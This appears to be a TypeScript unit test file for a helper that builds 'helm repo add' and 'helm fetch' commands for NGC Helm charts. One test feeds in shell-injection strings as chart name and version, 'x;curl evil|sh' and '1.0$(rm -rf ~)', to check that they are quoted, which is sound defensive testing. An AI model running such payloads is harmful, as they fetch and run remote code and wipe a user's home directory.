import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { helmCommand, shellWord } from '../../../../src/extension/details/helmCommand';

describe('helmCommand (unit)', () => {
    it('Should add the private team repo with $oauthtoken and the key from the shell, then fetch the version', () => {
        assert.equal(
            helmCommand(
                'https://helm.ngc.nvidia.com/',
                { kind: 'helm-chart', org: 'acme', team: 'vision', name: 'detector' },
                '1.2.0',
                false,
            ),
            [
                `helm repo add acme-vision https://helm.ngc.nvidia.com/acme/vision --username='$oauthtoken' --password="$NGC_API_KEY"`,
                'helm fetch acme-vision/detector --version 1.2.0',
            ].join('\n'),
        );
    });

    it('Should add a public repo without credentials, on the configured helm host', () => {
        assert.equal(
            helmCommand(
                'http://127.0.0.1:18083',
                { kind: 'helm-chart', org: 'nvidia', name: 'gpu-operator' },
                'v25.3.0',
                true,
            ),
            'helm repo add nvidia http://127.0.0.1:18083/nvidia\nhelm fetch nvidia/gpu-operator --version v25.3.0',
        );
    });

    it('Should ask for credentials when the catalog does not say the chart is public', () => {
        assert.match(
            helmCommand(
                'https://helm.ngc.nvidia.com',
                { kind: 'helm-chart', org: 'nvidia', name: 'x' },
                '1',
                undefined,
            ),
            /--username='\$oauthtoken'/,
        );
    });

    it('Should quote a name or version from the server that a shell would run', () => {
        const text = helmCommand(
            'https://helm.ngc.nvidia.com',
            { kind: 'helm-chart', org: 'nvidia', name: 'x;curl evil|sh' },
            "1.0$(rm -rf ~)'",
            true,
        );
        assert.equal(text.split('\n')[1], `helm fetch 'nvidia/x;curl evil|sh' --version '1.0$(rm -rf ~)'\\'''`);
        assert.equal(shellWord('v24.9.2'), 'v24.9.2');
        assert.equal(shellWord('http://127.0.0.1:18083/acme/vision'), 'http://127.0.0.1:18083/acme/vision');
        assert.equal(shellWord('a b'), `'a b'`);
    });
});
